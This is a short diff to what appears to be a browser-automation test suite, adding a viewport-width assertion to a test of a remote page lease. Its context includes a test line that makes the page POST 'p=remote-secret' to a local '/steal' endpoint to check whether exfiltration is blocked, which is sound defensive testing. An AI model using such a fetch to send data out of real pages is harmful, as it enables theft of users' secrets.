@@ -103,6 +103,7 @@ describe("a warm lease in another process", { skip: noChromium(), timeout: 120_0
       const second = await remote.page.browserContext().newPage();
       await second.close();
       await remote.page.goto(`http://portal.test:${port}/form`);
+      assert.equal(await remote.page.evaluate("innerWidth"), 1280, "the viewport the daemon gave the tab");
       const sent = await remote.page.evaluate(
         `fetch("http://127.0.0.1:${port}/steal", { method: "POST", mode: "no-cors", body: "p=remote-secret" }).then(() => "sent", () => "blocked")`,
       );
